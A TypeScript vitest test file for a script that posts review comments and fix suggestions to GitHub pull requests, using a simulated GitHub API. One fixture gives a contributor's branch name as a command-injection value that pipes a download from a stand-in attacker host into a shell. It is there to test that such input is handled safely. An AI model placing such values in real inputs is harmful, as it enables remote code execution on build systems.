import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import { playGitHub, runScript, type GitHub } from './play-git-hub.ts'
import { scratch } from './run.ts'

const SHA = 'c'.repeat(40)
const REVIEW = '<!-- demarche review -->\n## What this changes in the data\n'

/** What GitHub sends a workflow that runs after another, cut to what is read; the branch name is a contributor's. */
const EVENT = {
  action: 'completed',
  workflow_run: {
    event: 'pull_request',
    head_sha: SHA,
    head_branch: 'x"; curl evil.example | sh #',
    head_repository: { owner: { login: 'somebody' } },
    pull_requests: [],
  },
}

const DIFF = [
  '--- a/data/deals/2021/a.yaml',
  '+++ b/data/deals/2021/a.yaml',
  '@@ -1,4 +1,4 @@',
  ' id: a',
  '-title: A ',
  '+title: A',
  ' existence: { value: alleged }',
  '-note: ```` ',
  '+note: ````',
  '--- a/data/deals/2021/not-in-the-change.yaml',
  '+++ b/data/deals/2021/not-in-the-change.yaml',
  '@@ -1,1 +1,1 @@',
  '-id: b ',
  '+id: b',
  '',
].join('\n')

/** Plays GitHub: one open pull request, the comments given, one changed file. */
const gitHub = (comments: readonly object[], head = SHA): Promise<GitHub> =>
  playGitHub(
    (path) =>
      ({
        '/pulls': [{ number: 7, head: { sha: head } }],
        '/issues/7/comments': comments,
        '/pulls/7/files': [
          { filename: 'data/deals/2021/a.yaml', patch: '@@ -0,0 +1,4 @@\n+id: a\n+title: A \n+x\n+y' },
        ],
        '/pulls/7/comments': [],
      })[path],
  )

/** Runs the script on what a run left in a folder. */
function post(api: string, review = REVIEW): Promise<{ code: number | null; said: string }> {
  const folder = scratch()
  writeFileSync(join(folder, 'review.md'), review)
  writeFileSync(join(folder, 'fix.diff'), DIFF)
  writeFileSync(join(folder, 'event.json'), JSON.stringify(EVENT))
  return runScript('post-review.ts', { args: [folder], api, event: join(folder, 'event.json') })
}

test('writes a comment where there is none, and offers what the change shows', async () => {
  const { url, written } = await gitHub([{ id: 1, body: REVIEW, user: { type: 'User' } }])
  expect(await post(url)).toMatchObject({ code: 0, said: expect.stringContaining('#7') })
  expect(written).toEqual([
    { method: 'POST', url: '/repos/demarche/demarche/issues/7/comments', body: { body: REVIEW } },
    {
      method: 'POST',
      url: '/repos/demarche/demarche/pulls/7/reviews',
      body: {
        commit_id: SHA,
        event: 'COMMENT',
        comments: [
          {
            path: 'data/deals/2021/a.yaml',
            start_line: 2,
            start_side: 'RIGHT',
            line: 4,
            side: 'RIGHT',
            body: 'demarche fix would write:\n`````suggestion\ntitle: A\nexistence: { value: alleged }\nnote: ````\n`````',
          },
        ],
      },
    },
  ])
})

test('replaces the comment of the last run', async () => {
  const { url, written } = await gitHub([
    { id: 5, body: `${REVIEW}old`.replaceAll('\n', '\r\n'), user: { type: 'Bot' } },
  ])
  await post(url)
  expect(written[0]).toMatchObject({ method: 'PATCH', url: '/repos/demarche/demarche/issues/comments/5' })
})

test('posts nothing for a branch that has moved on, nor a text that is no review, nor more than a comment holds', async () => {
  const moved = await gitHub([], 'd'.repeat(40))
  expect((await post(moved.url)).code).toBe(0)
  expect(moved.written).toEqual([])
  const forged = await gitHub([])
  expect(await post(forged.url, '<!-- another comment -->\n')).toMatchObject({ code: 2 })
  expect(forged.written).toEqual([])
  const long = await gitHub([])
  await post(long.url, REVIEW + 'x'.repeat(70_000))
  expect((long.written[0]!.body as { body: string }).body.length).toBeLessThanOrEqual(65_536)
})
